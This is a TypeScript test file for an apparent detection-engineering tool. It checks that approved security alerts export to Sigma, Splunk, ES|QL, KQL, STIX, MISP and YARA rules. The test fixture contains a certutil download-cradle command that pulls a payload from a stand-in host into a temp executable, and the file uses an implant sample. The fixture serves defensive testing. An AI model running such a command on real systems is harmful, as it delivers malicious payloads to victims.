// `autosoc content export` end to end: an alert in PostgreSQL, approved by an analyst in the
// decision trail, exported as Sigma rules, Splunk/ES|QL/KQL hunting queries, STIX and MISP.
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { run } from '../../src/cli/main';
import { compileSigmaRule } from '../../src/content/sigma/matcher';
import { parseAlert } from '../../src/domain/alert';
import { extractObservables } from '../../src/domain/observables';
import { compile } from '@litko/yara-x';
import { upsertAlert } from '../../src/store/alerts';
import { linkEvidence, storeEvidence } from '../../src/store/evidence';
import { IMPLANT_STRINGS, implantSample } from '../content/samples';
import { appendAudit } from '../../src/store/decisions';
import { CORPUS_DIR } from '../helpers/corpus';
import { openTestDatabase, type TestDatabase } from '../helpers/database';

// A public LOLBAS/ART command line: certutil downloading a payload (T1105).
const COMMAND =
  'certutil.exe -urlcache -split -f https://dl.badcdn-example.net/stage2.bin C:\\Users\\jdoe\\AppData\\Local\\Temp\\stage2.exe';

let db: TestDatabase;
const ids = {
  approved: `alert:edr:content-${process.pid}-a`,
  pending: `alert:edr:content-${process.pid}-p`,
  benign: `alert:edr:content-${process.pid}-b`,
};

beforeAll(async () => {
  db = await openTestDatabase();
  for (const [key, id] of Object.entries(ids)) {
    const alert = parseAlert({
      source: 'edr',
      sourceId: id.split(':')[2],
      time: '2026-12-01T10:00:00Z',
      title: 'certutil download on ws-0142',
      severity: 'high',
      attackTechniques: ['T1105'],
      observables: {
        hosts: [{ hostname: 'ws-0142', ip: '10.20.30.40' }],
        users: [{ name: 'jdoe' }],
        processes: [
          {
            path: 'C:\\Windows\\System32\\certutil.exe',
            commandLine: COMMAND,
            user: 'CORP\\jdoe',
            parents: [{ path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE' }],
          },
        ],
        urls: ['https://dl.badcdn-example.net/stage2.bin'],
        ips: ['203.0.113.9'],
      },
    });
    await upsertAlert(db.pool, id, alert, extractObservables(alert));
    if (key === 'approved')
      await appendAudit(db.pool, {
        workflowId: id,
        step: 'decision:1',
        action: 'approve',
        actor: 'alice',
        reason: 'confirmed download cradle',
      });
  }
  await linkEvidence(
    db.pool,
    ids.approved,
    await storeEvidence(db.pool, {
      kind: 'sample',
      mediaType: 'application/vnd.microsoft.portable-executable',
      name: 'stage2.exe',
      content: implantSample(),
    }),
  );
  // A file triage judged benign that holds one of the implant's strings: that string is no longer distinctive.
  await db.pool.query("UPDATE alerts SET verdict = 'benign' WHERE workflow_id = $1", [ids.benign]);
  await linkEvidence(
    db.pool,
    ids.benign,
    await storeEvidence(db.pool, {
      kind: 'file',
      mediaType: 'text/plain',
      name: 'proxy.log',
      content: Buffer.from(`GET ${IMPLANT_STRINGS.url}42 200\n`),
    }),
  );
});
afterAll(() => db.close());

async function cli(args: string[]) {
  let out = '',
    err = '';
  const code = await run(args, {
    stdout: (s) => {
      out += s;
    },
    stderr: (s) => {
      err += s;
    },
    env: { DATABASE_URL: db.url, AUTOSOC_API_URL: 'https://autosoc.example.org', AUTOSOC_CORPUS: CORPUS_DIR, PATH: process.env.PATH },
  });
  return { code, out, err };
}

describe('autosoc content export', () => {
  it('writes Sigma rules that match the incident and reference the alert', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'content-sigma-'));
    const r = await cli(['--json', 'content', 'export', ids.approved, '--format', 'sigma', '--dir', dir]);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    const { files } = JSON.parse(r.out) as { files: string[] };
    const rules = files.map((f) => parse(readFileSync(f, 'utf8')));
    const cliRule = rules.find((x) => x.detection.selection_cli);
    expect(cliRule.detection.selection_cli['CommandLine|contains|all']).toEqual(expect.arrayContaining(['-urlcache']));
    expect(cliRule.references).toEqual([`https://autosoc.example.org/v1/alerts/${encodeURIComponent(ids.approved)}`]);
    expect(cliRule.level).toBe('medium'); // approved by an analyst, no malicious verdict recorded
    expect(compileSigmaRule(cliRule).matches({ Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: COMMAND })).toBe(true);
    expect(rules.map((x) => x.logsource.category)).toEqual(expect.arrayContaining(['process_creation', 'dns_query', 'network_connection']));
    expect(files.map((f) => readFileSync(f, 'utf8')).join('\n')).not.toMatch(/jdoe|ws-0142|10\.20\.30\.40/);
  });

  it.each([
    ['spl', /CommandLine="\*-urlcache\*"|CommandLine="\*urlcache/i],
    ['esql', /process\.command_line/],
    ['kql', /DeviceProcessEvents/],
  ])(
    'writes %s hunting queries',
    async (format, expected) => {
      const dir = mkdtempSync(join(tmpdir(), `content-${format}-`));
      const r = await cli(['--json', 'content', 'export', ids.approved, '--format', format, '--dir', dir]);
      expect(r.err).toBe('');
      expect(r.code).toBe(0);
      const { files } = JSON.parse(r.out) as { files: string[] };
      expect(files.length).toBeGreaterThanOrEqual(3);
      expect(files.map((f) => readFileSync(f, 'utf8')).join('\n')).toMatch(expected);
    },
    120_000,
  );

  it('writes STIX and MISP files', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'content-share-'));
    for (const format of ['stix', 'misp'])
      expect((await cli(['content', 'export', ids.approved, '--format', format, '--dir', dir])).code).toBe(0);
    const stem = ids.approved.replace(/[^A-Za-z0-9_.-]+/g, '_');
    const bundle = JSON.parse(readFileSync(join(dir, `${stem}.stix.json`), 'utf8'));
    expect(bundle.objects.filter((o: { type: string }) => o.type === 'indicator').map((o: { pattern: string }) => o.pattern)).toEqual(
      expect.arrayContaining(["[domain-name:value = 'dl.badcdn-example.net']", "[ipv4-addr:value = '203.0.113.9']"]),
    );
    const event = JSON.parse(readFileSync(join(dir, `${stem}.misp.json`), 'utf8'));
    expect(event.Event.Tag).toContainEqual({ name: 'tlp:amber' });
    expect(event.Event.info).not.toMatch(/ws-0142/);
  });

  it("writes YARA rules from the alert's samples, checked against the corpus and benign evidence", async () => {
    const dir = mkdtempSync(join(tmpdir(), 'content-yara-'));
    const r = await cli(['--json', 'content', 'export', ids.approved, '--format', 'yara', '--dir', dir]);
    expect(r.err).toBe('');
    expect(r.code).toBe(0);
    const { files } = JSON.parse(r.out) as { files: string[] };
    expect(files).toHaveLength(1);
    const source = readFileSync(files[0], 'utf8');
    expect(source).toContain(IMPLANT_STRINGS.agent);
    expect(source).not.toContain('gate.php'); // in a benign alert's evidence
    expect(compile(source).scan(implantSample())).toHaveLength(1);
  });

  it('refuses an alert that is neither approved nor malicious, and an unknown one', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'content-refused-'));
    const pending = await cli(['content', 'export', ids.pending, '--format', 'sigma', '--dir', dir]);
    expect(pending.code).toBe(1);
    expect(pending.err).toMatch(/neither analyst-approved nor judged malicious/);
    const unknown = await cli(['content', 'export', 'alert:edr:nope', '--format', 'stix', '--dir', dir]);
    expect(unknown.err).toMatch(/no alert alert:edr:nope/);
    expect((await cli(['content', 'export', ids.approved, '--format', 'pdf', '--dir', dir])).err).toMatch(/--format must be one of/);
  });
});
